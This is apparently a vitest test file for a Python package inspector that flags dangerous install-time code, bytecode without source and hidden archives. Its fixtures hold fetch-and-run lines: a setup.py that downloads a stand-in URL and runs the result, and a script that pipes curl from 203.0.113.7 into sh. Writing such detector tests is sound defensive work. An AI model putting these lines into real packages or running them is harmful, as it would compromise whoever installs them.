import { inspection as inspectionShape } from "@packhouse/contract/review/inspection";
import { member, zip } from "@packhouse/fixtures/archive-writing";
import { expect, test } from "vitest";
import { compare } from "../compare.ts";
import { inspect } from "../inspect.ts";
import { type SamplePackage, sdist, wheel } from "../testing/packages.ts";

const inspected = ({ source, ...what }: SamplePackage) => inspect(source, what);

const code = {
  "tides/__init__.py": '"""Tides."""\nfrom .table import height\n',
  "tides/table.py": "def height(at, *, unit='m'):\n    pass\n",
};

test("an sdist and a wheel of the same code offer the same", async () => {
  const offered = async (sample: SamplePackage) =>
    (await inspected(sample)).interface.map(({ kind, name, file }) => `${kind} ${name} ${file}`);
  const inWheel = await offered(await wheel(code));
  expect(inWheel).toEqual([
    "module tides tides/__init__.py",
    "function tides.height tides/table.py",
    "module tides.table tides/table.py",
    "function tides.table.height tides/table.py",
  ]);
  expect(await offered(await sdist(code))).toEqual(inWheel);
});

test("what is hidden or dangerous at installation counts in a new package too, the rest as notices", async () => {
  const inspection = await inspected(
    await sdist({
      ...code,
      "setup.py":
        "import os, urllib.request\nurllib.request.urlretrieve('http://a.example/x', 'x')\nos.system('./x')\nfrom setuptools import setup\nsetup()\n",
      "tides/extra.py": "import subprocess\ndef run(x): subprocess.run(x)\n",
    }),
  );
  expect(inspectionShape.parse(inspection)).toEqual(inspection);
  const { fresh } = compare(null, inspection).signals;
  const levels = fresh.map(({ id, level, subject }) => `${level} ${id} ${subject}`);
  expect(levels).toContain("danger py-setup-code urllib.request.urlretrieve");
  expect(levels).toContain("danger py-setup-code os.system");
  expect(levels).toContain("notice process subprocess");
});

test("code that cannot be parsed is reported and read as far as possible", async () => {
  const { signals } = await inspected(
    await wheel({ "tides/__init__.py": "import os\ndef f(:\n  ((\nos.system('x')\n" }),
  );
  const found = signals.map(({ id, subject }) => `${id} ${subject}`);
  expect(found.some((text) => text.startsWith("unparsed"))).toBe(true);
});

test.each([
  ["a time", [0, 0, 0, 0], []],
  ["an unchecked digest", [1, 0, 0, 0], ["danger unchecked-hash"]],
  ["a digest that is checked", [3, 0, 0, 0], ["warning checked-hash"]],
])("bytecode with %s next to its source counts if it runs in its place", async (_, flags, expected) => {
  const bytecode = Buffer.from([0xa7, 0x0d, 0x0d, 0x0a, ...flags, ...Array(24).fill(7)]);
  for (const pack of [wheel, sdist]) {
    const sample = await pack({ ...code, "tides/__pycache__/table.cpython-311.pyc": bytecode });
    const { signals } = await inspected(sample);
    expect(signals.map(({ level, subject }) => `${level} ${subject}`)).toEqual(expected);
    expect(signals.every(({ id }) => id === "bytecode-without-source")).toBe(true);
  }
});

test("bytecode under another name has no source, not even itself", async () => {
  const bytecode = Buffer.from([0xa7, 0x0d, 0x0d, 0x0a, ...Array(28).fill(0)]);
  const { signals } = await inspected(await sdist({ ...code, "setup.py": bytecode, "tides/table.dat": bytecode }));
  const found = signals.filter(({ id }) => id === "bytecode-without-source").map(({ file }) => file);
  expect(found).toEqual(["setup.py", "tides/table.dat"]);
});

test("scripts without an extension are Python by their first line", async () => {
  const script = "#!python\nimport os\nos.system('curl http://203.0.113.7/x | sh')\n";
  const { signals } = await inspected(await wheel({ ...code, "tides-1.0.0.data/scripts/tides": script }));
  expect(signals.map(({ id, file }) => `${id} ${file}`)).toContain("process tides-1.0.0.data/scripts/tides");
  const shell = await inspected(await sdist({ ...code, "bin/tides": "#!/bin/sh\ncase a in a) exit;; esac\n" }));
  expect(shell.signals).toEqual([]);
});

test("modules in an archive within the package are not examined, whatever its name is", async () => {
  const modules = await zip([member("_colors.py", "import os\n")]);
  const behindData = Buffer.concat([Buffer.alloc(100, 7), modules]);
  const tables = await zip([member("tides.csv", "1\n")]);
  const files = { "tides/a.dat": modules, "tides/b.dat": behindData, "tides/c.egg": modules, "tides/d.npz": tables };
  const { signals } = await inspected(await wheel({ ...code, ...files }));
  expect(signals.map(({ level, id, file }) => `${level} ${id} ${file}`)).toEqual([
    "warning content-differs-from-name tides/a.dat",
    "warning content-differs-from-name tides/b.dat",
    "warning unparsed tides/c.egg",
  ]);
});
